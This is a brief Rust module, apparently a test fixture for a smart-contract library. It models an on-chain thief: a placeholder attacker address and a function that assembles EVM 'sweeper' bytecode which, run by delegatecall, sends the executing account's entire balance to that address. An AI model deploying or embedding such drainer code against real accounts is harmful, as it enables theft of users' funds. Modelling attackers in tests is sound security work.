//! What a thief has on the chain.

use ring_contracts::{Address, Bytes};

/// Where a thief has things paid, and from where it sends.
pub const THIEF: Address = Address::repeat_byte(0xee);
/// A thief's contract: run by delegatecall it sends all coin of the account that runs it to the thief.
pub const SWEEPER: Address = Address::repeat_byte(0xe5);

/// CALL(GAS, THIEF, SELFBALANCE, no data in or out).
pub(super) fn sweeper_code() -> Bytes {
    let (arguments, end) = ([0x5f, 0x5f, 0x5f, 0x5f, 0x47, 0x73], [0x5a, 0xf1, 0x00]);
    [&arguments[..], THIEF.as_slice(), &end].concat().into()
}
